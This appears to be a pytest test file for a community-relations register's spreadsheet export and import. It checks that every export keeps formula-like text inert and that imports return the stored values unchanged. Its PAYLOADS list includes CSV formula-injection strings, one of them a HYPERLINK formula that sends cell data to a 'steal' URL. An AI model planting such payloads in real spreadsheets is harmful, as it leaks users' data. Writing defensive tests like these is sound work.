"""No export can carry a formula: every free-text field holds one, and every sheet written keeps it text."""
from __future__ import annotations

import csv
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from commrel.errors import ExchangeError
from commrel.exchange import csv_format, formula, xlsx
from commrel.exchange.profiles import PROFILES
from commrel.exchange.spreadsheet_import import plan_import, write_error_report
from commrel.services import concern_clocks, concerns, engagement, event_participants, events
from commrel.services import stakeholders as stakeholder_service

PAYLOADS = ['=HYPERLINK("http://example.org/steal?d="&A1,"Click")', "+1", "-2", "@SUM(A1:A2)", "\t=1", "\r=1"]
KINDS = ("stakeholders", "interactions", "events", "concerns", "all")
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _text(payload: str, field: str) -> str:
    return f"{payload} {field}"


def _tag(payload: str) -> str:
    # Sheets list tags separated by commas or semicolons, so a tag name has neither.
    return _text(payload, "tag").strip("\t\r").replace(",", " ")


@pytest.fixture
def hostile_register():
    """One record of each kind per payload, with the payload at the start of every free-text field."""
    for n, p in enumerate(PAYLOADS):
        org = stakeholder_service.create(kind="organisation", display_name=_text(p, f"org {n}"),
                                         neighbourhood=_text(p, "neighbourhood"), notes=_text(p, "notes"),
                                         address=_text(p, "address"), tags=[_tag(p)])
        person = stakeholder_service.create(
            given_name=_text(p, f"given {n}"), family_name=_text(p, "family"), email=f"p{n}@example.org",
            phone="+44 20 7946 000" + str(n), address=_text(p, "address"), neighbourhood=_text(p, "hood"),
            language=p.strip()[:10], notes=_text(p, "notes"), consent=True, consent_date=date(2025, 1, 1),
            consent_source=_text(p, "consent source"), tags=[_tag(p)])
        stakeholder_service.add_membership(person.id, org.id, role=_text(p, "role"))
        engagement.log_interaction([person.id, org.id], channel="meeting", summary=_text(p, "summary"),
                                   staff=_text(p, "staff"), follow_up=_text(p, "follow up"),
                                   follow_up_due=date(2026, 5, 1), occurred_at=datetime(2026, 3, 1, 10, n))
        event = events.create(title=_text(p, f"event {n}"), starts_at=datetime(2026, 4, 1 + n, 18),
                              timezone="Europe/London", venue=_text(p, "venue"), address=_text(p, "address"),
                              organiser=_text(p, "organiser"), organiser_email="org@example.org",
                              description=_text(p, "description"), tags=[_tag(p)],
                              url=_text(p, "url"))
        event_participants.invite(event.id, [person.id, org.id])
        category = concern_clocks.create_category(_text(p, f"category {n}").strip("\t\r"))
        concern = concerns.intake(channel="phone", complainant_id=person.id, category_id=category.id,
                                  location=_text(p, "location"), neighbourhood=_text(p, "hood"),
                                  summary=_text(p, "summary"), description=_text(p, "description"),
                                  owner=_text(p, "owner"))
        concerns.add_update(concern.id, "note", _text(p, "timeline note"))


def _assert_xlsx_has_no_formula(path) -> int:
    """No formula anywhere; every text that looks like one is a text cell kept text; returns how many."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
    risky = 0
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and formula.is_risky(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    risky += 1
    return risky


def _assert_csv_is_neutralised(path) -> int:
    """Every text cell that a spreadsheet would run starts with a quote; returns how many were quoted."""
    quoted = 0
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if _NUMBER.match(cell):
                    continue  # a number, which spreadsheets read as a number
                assert not formula.is_risky(cell), cell
                quoted += cell.startswith(formula.QUOTE) and formula.restore(cell) != cell
    return quoted


@pytest.mark.parametrize("profile", sorted(PROFILES))
@pytest.mark.parametrize("kind", KINDS)
def test_xlsx_export_writes_no_formula(tmp_path, hostile_register, kind, profile):
    result = xlsx.export(tmp_path / f"{kind}.xlsx", kind, profile=profile)
    assert result.count > 0
    assert _assert_xlsx_has_no_formula(result.path) > 0  # the payloads are there, as text


@pytest.mark.parametrize("profile", sorted(PROFILES))
@pytest.mark.parametrize("kind", [k for k in KINDS if k != "all"])
def test_csv_export_neutralises_every_formula(tmp_path, hostile_register, kind, profile):
    result = csv_format.export(tmp_path / f"{kind}.csv", kind, profile=profile)
    assert result.count > 0
    assert _assert_csv_is_neutralised(result.path) > 0


def test_csv_cannot_hold_everything_at_once(tmp_path):
    with pytest.raises(ExchangeError, match="A CSV file holds one list"):
        csv_format.export(tmp_path / "all.csv", "all")


def test_every_payload_comes_back_as_it_was_stored(tmp_path, hostile_register):
    """Neutralising is undone on import: a round trip through either format changes nothing."""
    for path in (xlsx.export(tmp_path / "s.xlsx").path, csv_format.export(tmp_path / "s.csv").path):
        plan = plan_import(path)
        assert plan.errors == [] and {r.outcome for r in plan.rows} == {"unchanged"}


def test_the_error_report_writes_no_formula(tmp_path, write_csv):
    rows = [["Given name", "Family name", "Email", "Notes"]]
    rows += [[p, _text(p, "family"), "not an email", _text(p, "notes")] for p in PAYLOADS]
    plan = plan_import(write_csv(rows))
    assert len(plan.errors) == len(PAYLOADS)
    report = tmp_path / "rows to fix.xlsx"
    assert write_error_report(plan, report) == len(PAYLOADS)
    assert _assert_xlsx_has_no_formula(report) >= len(PAYLOADS)
